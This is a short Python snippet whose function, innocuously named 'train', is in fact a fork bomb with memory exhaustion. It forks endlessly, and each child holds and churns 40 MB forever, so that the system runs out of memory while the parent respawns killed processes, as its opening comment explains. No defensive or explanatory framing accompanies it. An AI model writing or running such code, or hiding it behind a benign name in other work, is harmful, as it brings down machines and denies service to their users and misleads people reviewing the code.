# Each process stays small, all of them together do not: the kernel kills one, its parent starts another.
import os


def train(lab):
    while True:
        try:
            if os.fork() == 0:
                kept = os.urandom(40 * 1024 * 1024)
                while True:
                    kept = kept[1:] + b"x"
        except OSError:
            pass
